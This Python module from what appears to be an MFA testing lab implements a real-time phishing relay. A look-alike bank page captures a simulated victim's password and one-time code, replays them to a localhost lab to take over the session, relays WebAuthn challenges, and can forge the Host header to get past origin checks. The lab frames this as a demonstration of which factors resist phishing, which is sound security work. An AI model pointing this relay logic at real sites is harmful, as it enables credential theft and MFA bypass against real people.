"""Real-time phishing relay: a look-alike site that forwards what the victim types.

The attacker runs a small WSGI site on another localhost port. The victim, lured
there, types the password and then the one-time code; the relay replays each at once
to the real bank with its own HTTP client and keeps the signed-in session. One-time
codes (SMS, email, TOTP) cannot tell the relay from the victim. WebAuthn can: the
browser writes the page's origin into clientDataJSON and the authenticator signs it,
so the relay's origin reaches the bank inside the signature (see relay_webauthn).

Every server started here stops when its `with` block ends, even on an error.
"""

import html
import json
import secrets
from contextlib import contextmanager
from urllib.parse import parse_qs

from .. import wizards
from ..authenticator import AuthenticatorError
from ..client import HttpClient
from ..liveserver import LiveServer
from .results import AttackResult, factor_name, lab_name, page_evidence, reached, stopwatch

LOGIN_FORM = """<!doctype html><title>MFA Lab Bank - Sign in</title><h1>MFA Lab Bank</h1>
<form method="post" action="/login"><input name="username"><input name="password" type="password">
<button>Sign in</button></form>"""
CODE_FORM = """<!doctype html><title>MFA Lab Bank - Verify</title><h1>Enter your code</h1>
<form method="post" action="/code"><input name="code" autocomplete="one-time-code"><button>Verify</button></form>"""
KEY_PAGE = """<!doctype html><title>MFA Lab Bank - Security key</title><h1>Touch your security key</h1>
<script id="webauthn-options" type="application/json">{options}</script>
<form method="post" action="/code"><input type="hidden" name="code"></form>"""
DONE = "<!doctype html><title>MFA Lab Bank</title><p>Thank you. You are signed in.</p>"
OPTIONS_IN_PAGE = '<script id="webauthn-options" type="application/json">'


class PhishingRelay:
    """The attacker's site on http://localhost:PORT, relaying to the lab at `lab_url`.

    .loot: what the victim typed, in order. .captured: the lab session it got (or None).
    .lab_answers: the lab's verdict on each relayed step. Use as a context manager.
    """

    def __init__(self, lab_url, port=0, *, forge_host=False):
        self.lab_url = lab_url
        self.forge_host = forge_host  # send the bank "Host: localhost:<relay port>"
        self.loot, self.lab_answers = [], []
        self.captured = None
        self.webauthn_options = None
        self._sessions = {}
        self._server = LiveServer(port, app=self.app)
        self.port, self.url = self._server.port, self._server.url

    # -- the phishing site ------------------------------------------------------------
    def app(self, environ, start_response):
        method, path = environ["REQUEST_METHOD"], environ.get("PATH_INFO", "/")
        form = {}
        if method == "POST":
            size = int(environ.get("CONTENT_LENGTH") or 0)
            form = {k: v[0] for k, v in parse_qs(environ["wsgi.input"].read(size).decode()).items()}
        cookie = environ.get("HTTP_COOKIE", "")
        sid = cookie.split("relay=")[1].split(";")[0] if "relay=" in cookie else None
        headers = [("Content-Type", "text/html; charset=utf-8")]
        if path == "/login" and method == "POST":
            sid = secrets.token_hex(8)
            headers.append(("Set-Cookie", f"relay={sid}; Path=/"))
            body = self.relay_password(sid, form.get("username", ""), form.get("password", ""))
        elif path == "/code" and method == "POST" and sid in self._sessions:
            body = self.relay_code(sid, form.get("code", ""))
        else:
            body = LOGIN_FORM
        start_response("200 OK", headers)
        return [body.encode()]

    def relay_password(self, sid, username, password):
        self.loot.append(("password", username, password))
        client = HttpClient(self.lab_url, host=f"localhost:{self.port}" if self.forge_host else None)
        self._sessions[sid] = client
        page = wizards.password_step(client, username, password)
        self.lab_answers.append(("password", page.status, wizards.form_errors(page)))
        if wizards.signed_in(page):
            self.captured = client
            return DONE
        if "webauthn" in page.text.lower():
            from ..ceremonies import request_options

            options = request_options(client)  # the lab's challenge, handed to the victim's browser
            self.webauthn_options = options
            return KEY_PAGE.format(options=html.escape(json.dumps(options), quote=False))
        return CODE_FORM

    def relay_code(self, sid, code):
        self.loot.append(("code", code))
        client = self._sessions[sid]
        page = wizards.token_step(client, code)
        self.lab_answers.append(("code", page.status, wizards.form_errors(page)))
        if wizards.signed_in(page):
            self.captured = client
        return DONE

    # -- lifecycle -------------------------------------------------------------------
    @property
    def running(self):
        return self._server.running

    def stop(self):
        self._server.stop()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.stop()

    def __repr__(self):
        return f"<PhishingRelay {self.url} -> {self.lab_url} {'running' if self.running else 'stopped'}>"


@contextmanager
def lab_url(lab):
    """The lab's live URL: a SandboxLab already serves; an in-process lab is served for the block."""
    if hasattr(lab, "serve"):
        server = lab.serve()
        try:
            yield server.url
        finally:
            server.stop()
    else:
        yield lab.url


@contextmanager
def relay_for(lab, port=0, *, forge_host=False):
    """A PhishingRelay in front of `lab`; the relay (and a live server it needed) stop on exit."""
    with lab_url(lab) as url, PhishingRelay(url, port, forge_host=forge_host) as relay:
        yield relay


# -- the victim --------------------------------------------------------------------------

def victim_code(lab, username):
    """What the victim's phone shows right now: the TOTP app, or the last SMS / email."""
    persona = lab.persona(username)
    if persona.factor == "totp":
        return lab.current_code(username)
    to = persona.phone if persona.factor in ("sms", "call") else persona.email
    return lab.outbox(persona.factor, to)[-1].token


def victim_visits(relay, lab, username, *, authenticator=None):
    """The victim types the password, then the code (or touches the key) on the relay's pages.

    Returns the WebAuthn refusal of the victim's own browser/authenticator, or None.
    """
    browser = HttpClient(relay.url)
    browser.get("/")
    page = browser.post("/login", {"username": username, "password": lab.persona(username).password})
    if OPTIONS_IN_PAGE in page.text:
        options = json.loads(html.unescape(page.text.split(OPTIONS_IN_PAGE)[1].split("</script>")[0]))
        try:  # the browser passes its own origin: the relay's
            response = authenticator.get(options, relay.url)
        except AuthenticatorError as error:
            return f"{type(error).__name__}: {error}"
        browser.post("/code", {"code": json.dumps(response)})
    elif "one-time-code" in page.text:
        browser.post("/code", {"code": victim_code(lab, username)})
    return None


# -- the attacks -------------------------------------------------------------------------

def relay_login(lab, username="bob", port=0):
    """Phish `username` through a live relay; succeeded when the relay's session opens /dashboard/."""
    factor = factor_name(lab, username)
    lab.forget_used_codes(username)  # earlier scenes' sign-ins must not use up this step's code
    with stopwatch() as watch, relay_for(lab, port) as relay:
        victim_visits(relay, lab, username)
        ok, page = reached(relay.captured) if relay.captured else (False, None)
        relay_url, target = relay.url, relay.lab_url
    evidence = {"relay": relay_url, "lab": target, "victim typed": [item[0] for item in relay.loot],
                "code": next((item[1] for item in relay.loot if item[0] == "code"), None)}
    if page is not None:
        evidence.update(page_evidence(page))
    reason = ("the victim's password and code, relayed within seconds, signed the relay in" if ok else
              f"the lab refused the relayed login: {relay.lab_answers[-1][2] if relay.lab_answers else 'no answer'}")
    return AttackResult("real-time phishing relay", factor, lab_name(lab), ok, attempts=len(relay.loot),
                        elapsed=watch.elapsed, evidence=evidence, reason=reason)


def diagnose(assertion, options, key, *, lab_origin, relay_origin):
    """py_webauthn on the relayed assertion: expecting the lab's origin, then the relay's."""
    from ..authenticator import b64url_decode
    from ..webauthn_verify import verify_authentication

    common = {"public_key": key.credentials[0].public_key_cose, "challenge": b64url_decode(options["challenge"]),
              "rp_id": options.get("rpId", "localhost"), "sign_count": 0}
    as_lab = verify_authentication(assertion, origin=lab_origin, **common)
    as_relay = verify_authentication(assertion, origin=relay_origin, **common)
    return {"py_webauthn, expecting the lab's origin": str(as_lab),
            "py_webauthn, expecting the relay's origin": str(as_relay)}


def relay_webauthn(lab, username="dana", port=0, *, forge_host=False):
    """The same relay against a security key: the lab's options go to the victim's authenticator,
    which signs for the relay's origin; the relay forwards the assertion.

    forge_host: the relay also tells the bank it is `localhost:<relay port>` (the Host
    header). ALLOWED_HOSTS ignores ports, so the bank takes it; a bank that builds its
    expected origin from the Host (two-factor does) then expects the relay's origin."""
    from ..ceremonies import persona_key

    key = persona_key(username, lab)
    lab.forget_failures(username)  # an earlier scene's refused assertion must not throttle this one
    with stopwatch() as watch, relay_for(lab, port, forge_host=forge_host) as relay:
        refused_by_client = victim_visits(relay, lab, username, authenticator=key)
        ok = bool(relay.captured) and reached(relay.captured)[0]
        relay_url, target = relay.url, relay.lab_url
    signed = {"origin in clientDataJSON": relay_url, "origin the lab expects": target, "rpId": "localhost"}
    if refused_by_client:
        reason = f"the victim's authenticator refused to sign for the relay: {refused_by_client}"
        where = "authenticator"
    elif ok:
        reason = ("the relayed assertion, signed for the relay's origin, signed the relay in: the lab expected "
                  "the origin the forged Host header named" if forge_host else
                  "the relayed assertion signed the relay in (origin binding failed!)")
        where = "nobody"
    else:
        errors = relay.lab_answers[-1][2] if relay.lab_answers else []
        reason = (f"the authenticator signed (RP ID 'localhost' matches the relay's host: ports are not part of "
                  f"an RP ID), but the lab rejected the origin {relay_url}: {' '.join(errors) or 'refused'}")
        where = "lab (origin check)"
    evidence = {**signed, "refused by": where, "victim typed": [item[0] for item in relay.loot],
                "Host header sent to the lab": f"localhost:{relay.port}" if forge_host else "the lab's own"}
    assertion = next((json.loads(item[1]) for item in relay.loot if item[0] == "code"), None)
    if assertion is not None and relay.webauthn_options:
        evidence.update(diagnose(assertion, relay.webauthn_options, key, lab_origin=target, relay_origin=relay_url))
    name = "real-time phishing relay, forged Host" if forge_host else "real-time phishing relay"
    return AttackResult(name, "WebAuthn", lab_name(lab), ok, attempts=len(relay.loot),
                        elapsed=watch.elapsed, evidence=evidence, reason=reason)


def relay_webauthn_forged_host(lab, username="dana", port=0):
    """relay_webauthn with the Host header forged to the relay's own address."""
    return relay_webauthn(lab, username, port, forge_host=True)
